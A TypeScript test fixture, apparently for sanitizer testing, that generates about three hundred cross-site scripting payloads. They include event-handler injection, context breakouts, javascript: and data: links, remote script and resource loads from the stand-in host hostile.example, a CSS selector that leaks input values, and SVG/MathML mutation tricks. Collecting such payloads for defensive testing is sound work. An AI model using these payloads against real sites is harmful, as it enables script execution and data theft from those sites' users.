/** Three hundred texts that run a script, fetch from elsewhere or break out of where they stand, if the page lets them. */

/** Where everything that is fetched would go. */
export const FOREIGN = 'hostile.example'

const HIT = 'window.pwned=(window.pwned||0)+1'
const url = (path: string) => `https://${FOREIGN}/${path}`

/** An element with a handler that runs by itself or at the first touch. */
const HANDLED: readonly (readonly [element: string, handlers: readonly string[]])[] = [
  ['img src=x', ['onerror', 'onload', 'onpointerover', 'onmouseenter']],
  ['svg', ['onload', 'onmouseover', 'onfocus']], ['svg/onload', ['onload']], ['body', ['onload', 'onpageshow', 'onhashchange', 'onresize']],
  ['input autofocus', ['onfocus', 'onblur']], ['select autofocus', ['onfocus']], ['textarea autofocus', ['onfocus']], ['video src=x', ['onerror', 'onloadstart']],
  ['audio src=x', ['onerror', 'oncanplay']], ['details open', ['ontoggle']], ['iframe src=about:blank', ['onload']], ['marquee', ['onstart', 'onfinish']],
  ['div style="animation:spin 1s"', ['onanimationstart', 'onanimationend']], ['div style="transition:all 1s"', ['ontransitionend']], ['div contenteditable', ['onbeforeinput', 'onpaste']],
  ['div tabindex=1', ['onfocusin', 'onkeydown', 'onclick', 'oncontextmenu']], ['object data=x', ['onerror']], ['embed src=x', ['onload']], ['link rel=stylesheet href=x', ['onerror', 'onload']],
  ['style', ['onload']], ['script src=x', ['onerror']], ['picture><source srcset=x><img', ['onerror']], ['dialog open', ['oncancel', 'onclose']], ['form', ['onsubmit', 'onformdata']],
  ['p', ['onpointerdown', 'onpointerrawupdate', 'onwheel', 'onscroll', 'onscrollend']], ['svg><animate attributeName=x dur=1s', ['onbegin', 'onend']], ['svg><set attributeName=x', ['onbegin']],
  ['math><mtext', ['onmouseover']], ['xss', ['onpointerenter', 'oncontentvisibilityautostatechange']], ['button popovertarget=x>x</button><xss popover id=x', ['onbeforetoggle', 'ontoggle']],
]

/** Where a text may stand, and how it could get out of there. */
const BREAKOUTS = [
  '"', "'", '">', "'>", '`>', '</', '-->', '--!>', ']]>', '</title>', '</textarea>', '</style>', '</script>', '</noscript>', '</template>', '</svg>', '</math>', '</select>', '</option>', '</xmp>',
  '\\"', "\\'", '\\u0022>', '&quot;>', '&#34;>', '\u2028', '\u2029', '}}', '*/', '//\n',
]

const SCHEMES = [
  'javascript:', 'JaVaScRiPt:', ' javascript:', 'java\tscript:', 'java\nscript:', 'javascript&colon;', 'javascript&#58;', '&#106;avascript:', '\u0001javascript:', 'vbscript:', 'data:text/html,',
  'data:text/html;base64,', 'data:image/svg+xml,', 'view-source:javascript:', 'feed:javascript:', 'blob:', '//', '\\\\', '/\\', 'https:',
]
const LINKED = [(to: string) => `<a href="${to}">x</a>`, (to: string) => `[x](${to})`, (to: string) => `<svg><a xlink:href="${to}"><text y=9>x</text></a></svg>`]

const SCRIPTS = [
  `<script>${HIT}</script>`, `<SCRIPT>${HIT}</SCRIPT>`, `<script\n>${HIT}</script\n>`, `<scr<script>ipt>${HIT}</scr</script>ipt>`, `<script/x>${HIT}</script>`, `<script type=module>${HIT}</script>`,
  `<script src="${url('a.js')}"></script>`, `<script src=//${FOREIGN}/b.js></script>`, `<script type=speculationrules>{"prerender":[{"urls":["${url('p')}"]}]}</script>`,
  `<script type=importmap>{"imports":{"x":"${url('i.js')}"}}</script>`, `<noscript><p title="</noscript><script>${HIT}</script>">`, `<template><script>${HIT}</script></template>`,
  `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`, `<iframe src="javascript:parent.${HIT}"></iframe>`, `<iframe src="${url('frame')}"></iframe>`, `<frameset onload=${HIT}>`,
  `<object data="javascript:${HIT}"></object>`, `<object type="text/html" data="${url('o')}"></object>`, `<embed src="${url('e.swf')}">`, `<applet code=x archive="${url('j.jar')}"></applet>`,
  `<base href="${url('')}">`, `<meta http-equiv=refresh content="0;url=${url('m')}">`, `<meta http-equiv=Content-Security-Policy content="script-src *">`, `<form action="${url('f')}"><button>x</button></form>`,
  `<button formaction="javascript:${HIT}">x</button>`, `<input type=image src="${url('in.png')}">`, `<isindex action=javascript:${HIT} type=image>`, `<keygen autofocus onfocus=${HIT}>`, `<portal src="${url('pt')}">`, `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${HIT}</x:script>`,
]

const FETCHES = [
  `<img src="${url('1.png')}">`, `<img src=//${FOREIGN}/2.png>`, `<img srcset="${url('3.png')} 2x">`, `<picture><source srcset="${url('4.png')}"><img src="/x.png"></picture>`, `<video poster="${url('5.png')}"></video>`,
  `<video src="${url('6.mp4')}" autoplay></video>`, `<audio src="${url('7.mp3')}" autoplay></audio>`, `<link rel=stylesheet href="${url('8.css')}">`, `<link rel=preload as=image href="${url('9.png')}">`,
  `<link rel=prefetch href="${url('10')}">`, `<link rel=dns-prefetch href="//${FOREIGN}">`, `<link rel=preconnect href="${url('')}">`, `<table background="${url('11.png')}"><tr><td>x</table>`, `<body background="${url('12.png')}">`,
  `<track src="${url('13.vtt')}">`, `<svg><image href="${url('14.png')}"/></svg>`, `<svg><image xlink:href="${url('15.png')}"/></svg>`, `<svg><use href="${url('16.svg')}#x"/></svg>`, `<svg><feImage href="${url('17.png')}"/></svg>`,
  `<img src=x:x style="content:url(${url('18.png')})">`, `<a ping="${url('19')}" href="/">x</a>`, `<blockquote cite="${url('20')}">x</blockquote>`, `<img lowsrc="${url('21.png')}" dynsrc="${url('22.png')}">`, `<img src="/media/../../${FOREIGN}/x.png">`,
]

const STYLES = [
  `<style>@import "${url('1.css')}";</style>`, `<style>*{background:url(${url('2.png')})}</style>`, `<style>@font-face{font-family:x;src:url(${url('3.woff2')})}*{font-family:x}</style>`, `<div style="background:url(${url('4.png')})">x</div>`,
  `<div style="background-image:u\\72l(${url('5.png')})">x</div>`, `<div style="width:expression(${HIT})">x</div>`, `<div style="behavior:url(${url('6.htc')})">x</div>`, `<div style="-moz-binding:url(${url('7.xml')}#x)">x</div>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:#fff">over all</div>`, `#fff;background:url(${url('8.png')})`, `red;}body{background:url(${url('9.png')})}`, `url(${url('10.png')})`, `<style>input[value^=a]{background:url(${url('11.png')})}</style>`,
  `<link rel=stylesheet href="data:text/css,*{background:url(${url('12.png')})}">`, `<svg><style>*{fill:url(${url('13.svg')}#x)}</style></svg>`,
]

const SVG = [
  `<svg><script>${HIT}</script></svg>`, `<svg><script href="${url('s.js')}"/></svg>`, `<svg><foreignObject><iframe srcdoc="<script>parent.${HIT}</script>"/></foreignObject></svg>`, `<svg><desc><script>${HIT}</script></desc></svg>`,
  `<svg><animate xlink:href=#x attributeName=href values="javascript:${HIT}"/><a id=x><text y=9>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${HIT}</script></svg>#x"/></svg>`,
  `<svg><title><style><img src=x onerror=${HIT}></style></title></svg>`, `<svg></p><style><a id="</style><img src=1 onerror=${HIT}>">`, `<math><mi xlink:href="javascript:${HIT}">x</mi></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${HIT}&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${HIT}>`, `<svg><![CDATA[><img src=x onerror=${HIT}>]]></svg>`,
  `<math><annotation-xml encoding="text/html"><script>${HIT}</script></annotation-xml></math>`, `<table><td><svg><desc><table><td><img src=x onerror=${HIT}></table>`, `<noembed><img title="</noembed><img src=x onerror=${HIT}>"></noembed>`,
]

const TEMPLATES = [
  `{{constructor.constructor('${HIT}')()}}`, `\${${HIT}}`, `#{${HIT}}`, `<%= ${HIT} %>`, `{count, plural, one {<img src=x onerror=${HIT}>} other {x}}`, `{"__html":"<img src=x onerror=${HIT}>"}`, `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${HIT}>"}}`,
  `"}]}</script><script>${HIT}</script>`, `","@type":"Product","url":"javascript:${HIT}`, `\\u003cscript\\u003e${HIT}\\u003c/script\\u003e`, `<!--<script>`, `<!--<script>${HIT}//-->`, `</script><!--`, `self.__next_f.push([1,"<img src=x onerror=${HIT}>"])`, `1:HL["${url('x.js')}","script"]`,
  `$undefined`, `$L1`, `$@1`, `$Q0`, `__proto__`, `constructor`, `%3Cscript%3E${HIT}%3C/script%3E`, `&lt;script&gt;${HIT}&lt;/script&gt;`, `&amp;lt;img src=x onerror=${HIT}&amp;gt;`, `+ADw-script+AD4-${HIT}+ADw-/script+AD4-`, `\u202e>gnp.x=crs gmi<`, `\ufeff<script>${HIT}</script>`,
]

const MARKDOWN = [
  `![x](${url('md.png')})`, `![x](x"onerror="${HIT})`, `[x](javascript:${HIT})`, `[x]: javascript:${HIT}\n\n[x]`, `<javascript:${HIT}>`, `\`\`\`html\n<script>${HIT}</script>\n\`\`\``, `[![x](x "onload=${HIT}")](${url('md')})`, `# <img src=x onerror=${HIT}>`, `| <img src=x onerror=${HIT}> |\n|-|`, `&#91;x](javascript:${HIT})`,
]

/** All of them, each once. */
export const HOSTILE: readonly string[] = [...new Set([
  ...HANDLED.flatMap(([element, handlers]) => handlers.map((handler) => `<${element} ${handler}="${HIT}">x`)),
  ...BREAKOUTS.flatMap((out) => [`${out}<img src=x onerror=${HIT}>`, `${out} autofocus onfocus=${HIT} x="`, `${out};${HIT};//`]),
  ...SCHEMES.flatMap((scheme) => LINKED.map((link) => link(scheme.endsWith(':') || scheme.endsWith(',') ? `${scheme}${HIT}` : `${scheme}${FOREIGN}`))),
  ...SCRIPTS, ...FETCHES, ...STYLES, ...SVG, ...TEMPLATES, ...MARKDOWN,
])]
